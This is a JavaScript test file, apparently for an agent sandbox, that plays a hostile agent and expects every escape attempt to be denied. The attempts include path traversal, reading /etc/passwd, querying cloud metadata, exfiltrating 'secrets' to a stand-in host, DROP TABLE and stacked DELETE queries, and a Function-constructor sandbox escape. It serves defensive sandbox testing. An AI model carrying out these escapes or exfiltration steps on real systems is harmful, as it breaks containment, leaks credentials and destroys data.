// A hostile agent: it tries to escape in every way it knows and reports what it was told.
// Run it under any policy: nothing it tries may succeed.
import { fs, http, sql } from "agent-os/guest";

async function attempt(name, fn) {
  try {
    const value = await fn();
    return { name, outcome: "ALLOWED", detail: String(value).slice(0, 80) };
  } catch (thrown) {
    // The global fetch is the kernel's: a refused fetch is a TypeError whose cause is the denial.
    const error = thrown?.cause?.name === "PermissionDenied" ? thrown.cause : thrown;
    const kind = error?.name === "PermissionDenied" ? `denied by ${error.rule ?? "the default"}` : error?.kind ?? error?.name;
    return { name, outcome: kind, detail: error?.reason ?? error?.detail ?? String(error?.message ?? error) };
  }
}

export async function run() {
  const results = [
    await attempt("write outside the mount", () => fs.write("/workspace/../../etc/agent-was-here", "pwned")),
    await attempt("write to /prod", () => fs.write("/prod/config.json", "{}")),
    await attempt("read /etc/passwd", () => fs.readText("/etc/passwd")),
    await attempt("fetch cloud metadata", () => http.fetch("http://169.254.169.254/latest/meta-data/")),
    await attempt("fetch an unlisted host", () => http.fetch("https://exfiltrate.example/steal?data=secrets")),
    await attempt("DROP TABLE", () => sql.query("main", "DROP TABLE users")),
    await attempt("stacked DELETE", () => sql.query("main", "select 1; delete from users")),
    await attempt("ambient process", () => typeof process !== "undefined" ? process.env : Promise.reject(new Error("process is not defined"))),
    await attempt("ambient require", () => typeof require !== "undefined" ? require("fs") : Promise.reject(new Error("require is not defined"))),
    await attempt("global fetch", () => fetch("https://example.com")),
    await attempt("import node:fs", () => import("node:fs")),
    await attempt("constructor escape", () => Promise.resolve((0, [].constructor.constructor)("return typeof process")()).then((t) => (t === "undefined" ? Promise.reject(new Error("no process behind Function")) : t))),
  ];
  return JSON.stringify(results);
}
